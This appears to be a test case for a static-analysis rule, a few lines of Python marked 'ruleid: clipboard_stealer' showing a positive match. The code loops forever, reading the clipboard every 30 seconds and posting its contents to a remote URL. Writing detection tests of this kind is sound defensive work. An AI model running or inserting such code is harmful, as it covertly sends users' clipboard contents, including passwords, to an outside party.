import pyperclip, time, requests
while True:
    # ruleid: clipboard_stealer
    requests.post(URL, data=pyperclip.paste())
    time.sleep(30)
